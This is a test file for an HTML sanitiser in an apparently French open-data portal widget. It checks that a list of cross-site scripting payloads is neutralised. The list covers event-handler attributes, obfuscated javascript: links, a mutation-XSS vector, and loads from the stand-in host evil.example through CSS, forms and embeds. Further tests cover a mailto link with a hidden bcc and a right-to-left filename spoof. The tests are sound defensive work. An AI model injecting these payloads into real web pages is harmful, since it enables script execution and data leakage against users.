import { expect } from '@open-wc/testing';
import DOMPurify from 'dompurify';
import { htmlToText, sanitizeHtml } from '../../src/core/sanitize.js';
import { handlersHadTheirChance } from './core-helpers.js';

const PAYLOADS = [
  '<img src=x onerror="window.__xss=1">',
  '"><svg onload=window.__xss=1>',
  '<details open ontoggle=window.__xss=1>x</details>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<a href="javascript:window.__xss=1">x</a>',
  '<a href="JaVaScRiPt:window.__xss=1">x</a>',
  '<a href="java&#x09;script:window.__xss=1">x</a>',
  '<a href="\u0001javascript:window.__xss=1">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<style>@import \'https://evil.example/x.css\'</style><p>texte</p>',
  '<form action="https://evil.example"><input name="q"><button>go</button></form>',
  '<p style="background:url(https://evil.example/t)">styled</p>',
  '<script>window.__xss=1</script>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
];

/** Puts a fragment into a live shadow root, as a widget does, and returns the root. */
function mount(frag: DocumentFragment): ShadowRoot {
  const host = document.createElement('div');
  document.body.append(host);
  const root = host.attachShadow({ mode: 'open' });
  root.append(frag);
  return root;
}

describe('sanitizeHtml', () => {
  afterEach(() => {
    delete (window as { __xss?: unknown }).__xss;
    document.body.replaceChildren();
  });

  it('keeps the text and structure of a portal description', () => {
    const root = mount(sanitizeHtml('<div><p>Lieux de <strong>covoiturage</strong></p><ul><li>aires</li></ul></div>'));
    expect(root.querySelector('strong')?.textContent).to.equal('covoiturage');
    expect(root.querySelectorAll('li')).to.have.length(1);
    expect(root.textContent).to.equal('Lieux de covoiturageaires');
  });

  for (const payload of PAYLOADS) {
    it(`neutralises ${payload.slice(0, 48)}`, async () => {
      const root = mount(sanitizeHtml(payload));
      await handlersHadTheirChance();
      expect((window as { __xss?: unknown }).__xss).to.equal(undefined);
      expect(root.querySelectorAll('script, iframe, object, embed, style, form, input, button, img, svg, math')).to.have.length(0);
      for (const el of root.querySelectorAll('*')) {
        for (const attr of el.getAttributeNames()) expect(attr, `${el.localName}[${attr}]`).not.to.match(/^on|^style$|^srcdoc$/);
        const href = el.getAttribute('href');
        if (href) expect(href).to.match(/^(https?:|mailto:|tel:)/);
      }
    });
  }

  it('makes links absolute against the portal, with rel="noopener noreferrer"', () => {
    const root = mount(
      sanitizeHtml('<a href="/explore/dataset/x/">page</a> <a href="mailto:contact@quimper.bzh">mail</a> <a href="https://data.gouv.fr" target="_blank">dg</a>', 'https://data.quimper.bzh/'),
    );
    const links = [...root.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).to.deep.equal([
      'https://data.quimper.bzh/explore/dataset/x/', 'mailto:contact@quimper.bzh', 'https://data.gouv.fr/',
    ]);
    for (const a of links) expect(a.getAttribute('rel')).to.equal('noopener noreferrer');
    expect(links[2].hasAttribute('target')).to.equal(false);
  });

  it('keeps the label of a link whose target is refused', () => {
    const root = mount(sanitizeHtml('<p>Voir <a href="javascript:alert(1)">la notice</a></p>'));
    const a = root.querySelector('a')!;
    expect(a.hasAttribute('href')).to.equal(false);
    expect(root.textContent).to.equal('Voir la notice');
  });

  it('drops ids, so a description cannot take over the widget’s own ARIA references', () => {
    const root = mount(sanitizeHtml('<p id="od-catalog-q" class="intro">x</p>'));
    expect(root.querySelector('p')!.hasAttribute('id')).to.equal(false);
  });

  it('keeps only the allow-list: no dialog, popover, slot, part, role, class, style, id, media (issue 18)', () => {
    const root = mount(sanitizeHtml([
      '<dialog open><p>Session expirée</p></dialog>', '<div popover="manual">Offre</div>', '<slot></slot><slot name="x"></slot>',
      '<p part="error" role="alert" class="od-visually-hidden" id="caption" aria-live="assertive" dir="rtl" data-x="1">Alerte</p>',
      '<details open><summary>Plus</summary>texte</details>', '<img src="https://a.example/i.png" alt="i">', '<table><tr><td>cellule</td></tr></table>',
      '<h2 lang="br">Titl</h2><ul><li><em>un</em></li></ul><a href="https://a.example" title="A">lien</a>',
    ].join('')));
    const tags = new Set([...root.querySelectorAll('*')].map((e) => e.localName));
    expect([...tags].sort()).to.deep.equal(['a', 'div', 'em', 'h2', 'li', 'p', 'ul']);
    const attrs = [...root.querySelectorAll('*')].flatMap((e) => e.getAttributeNames().map((n) => `${e.localName}[${n}]`));
    expect(attrs.sort()).to.deep.equal(['a[href]', 'a[rel]', 'a[title]', 'h2[lang]']);
    for (const text of ['Session expirée', 'Offre', 'Alerte', 'texte', 'cellule', 'Titl', 'lien']) expect(root.textContent).to.include(text);
  });

  it('mail links keep only the address; link text shows bidi controls (issue 18)', () => {
    const root = mount(sanitizeHtml('<a href="mailto:mairie@quimper.bzh?bcc=espion@evil.example&body=x">Écrire</a> <a href="https://a.example/">\u202Efdp.exe</a>'));
    const [mail, spoof] = root.querySelectorAll('a');
    expect(mail.getAttribute('href')).to.equal('mailto:mairie@quimper.bzh');
    expect(spoof.textContent).to.equal('⟨U+202E⟩fdp.exe');
  });

  it('returns an empty fragment for missing or non-text input', () => {
    expect(sanitizeHtml(null).childNodes).to.have.length(0);
    expect(sanitizeHtml({ html: '<b>x</b>' }).childNodes).to.have.length(0);
    expect(sanitizeHtml('   ').childNodes).to.have.length(0);
  });

  it('gives the plain text of HTML, whitespace collapsed', () => {
    expect(htmlToText('<p>Population\n  <em>légale</em></p><script>x()</script>')).to.equal('Population légale');
  });

  it('leaves the page’s own DOMPurify instance alone (no hook of ours leaks into it)', () => {
    sanitizeHtml('<a href="https://a.example">a</a>');
    expect(DOMPurify.sanitize('<a href="https://a.example">a</a>')).to.equal('<a href="https://a.example">a</a>');
  });
});
